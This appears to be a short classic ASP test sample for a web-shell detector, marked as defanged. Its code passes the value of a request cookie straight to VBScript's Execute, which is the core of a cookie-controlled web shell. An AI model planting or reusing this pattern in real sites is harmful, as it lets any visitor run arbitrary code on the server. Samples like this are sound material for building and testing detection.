<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Function run(s)
	Execute s
End Function
run Request.Cookies("k")
%>
